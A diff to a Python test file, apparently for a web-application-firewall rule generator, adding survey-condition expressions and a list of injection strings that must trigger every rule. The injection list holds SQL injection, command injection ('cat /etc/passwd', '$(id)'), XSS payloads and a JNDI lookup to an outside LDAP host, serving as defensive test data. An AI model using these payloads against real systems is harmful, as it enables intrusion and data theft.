@@ -420,14 +420,28 @@ SHEET_FORMULA_INJECTIONS = [  # each must fall back to every rule
     '=DDE("cmd")', "={1,2}", "=A1#", "=${jndi:ldap://203.0.113.5/a}", "=A1 and sleep(5)", "='a;b'!A1",
     "=ascii(substr(user(),1,1))>64", "=SUM(A1) id", "=A1\\x",
 ]
-
+CONDITIONS = [  # a survey builder's skip logic and a rules engine's guards, as their editors save them
+    # corpus AE held-out part, opened in stop 35: survey-vote-builder logic-validate and survey-create (942100)
+    '!(Q3 == "否")', 'Q1 != "县级" || Q5 >= 4', 'Q2 == "否"', 'Q3 == "是" && Q5 > 2', "年龄 >= 80",
+    'age >= 60 && (hukou == "本市" || permitMonths >= 6)', "!receivingPension", "Q4.score < 3.5",
+    '(Q1 == "A") && !(Q2 == "B")',
+]
+CONDITION_INJECTIONS = [  # each must fall back to every rule
+    "Q1 == 'A'", "Q1 = 1", "Q1 == 1 or 1 == 1", "Q1 == 1; drop table t", "Q1 == 1 -- x", "Q1 == 1 /* x */",
+    "Q1 == sleep(5)", "Q1 == 1 union select 1", "Q1 && $(id)", "Q1 && `id`", "Q1 | id", "Q1 & id",
+    'Q1 == "a\\" or 1"', "<script>alert(1)</script>", "Q1 == 1\nunion select 1", "Q1 == %27", "Q1 == ${jndi:x}",
+    "Q1 == @@version", "Q1 Q2", "Q1 == 1 1", "version()", "x == user()", 'Q1 == "a" "b"', "1 == 1 order by 1",
+    "Q1 == 1 and sleep(5)", "Q1 == 1 union all select password from users", "Q1 == 1' or '1'='1",
+    "<img src=x onerror=alert(1)>", "Q1 == 1; exec xp_cmdshell('dir')", "Q1 && cat /etc/passwd",
+]
 
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
 TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
           "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
           "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS),
           "patent-search": (PATENT, PATENT_INJECTIONS), "boolean-expression": (BOOLEAN, BOOLEAN_INJECTIONS),
-          "formula": (FORMULAS, FORMULA_INJECTIONS), "sheet-formula": (SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS)}
+          "formula": (FORMULAS, FORMULA_INJECTIONS), "sheet-formula": (SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS),
+          "condition": (CONDITIONS, CONDITION_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
@@ -451,7 +465,7 @@ def test_a_report_formula_field_leaves_the_sql_rules_and_933161_only() -> None:
 
 @pytest.mark.parametrize(("language", "extra"), [("boolean-expression", ()),
                                                    ("formula", (932140, 932200, 933161)),
-                                                   ("sheet-formula", (933161,))])
+                                                   ("sheet-formula", (933161,)), ("condition", ())])
 def test_boolean_and_formula_fields_leave_the_sql_rules_and_nothing_more(language: str, extra: tuple[int, ...]) -> None:
     ff = FilterField(("/rules/save",), ("ARGS:json.expr",), language, "x")
     lines = filter_fields.render(ff, 12101, "site/x")
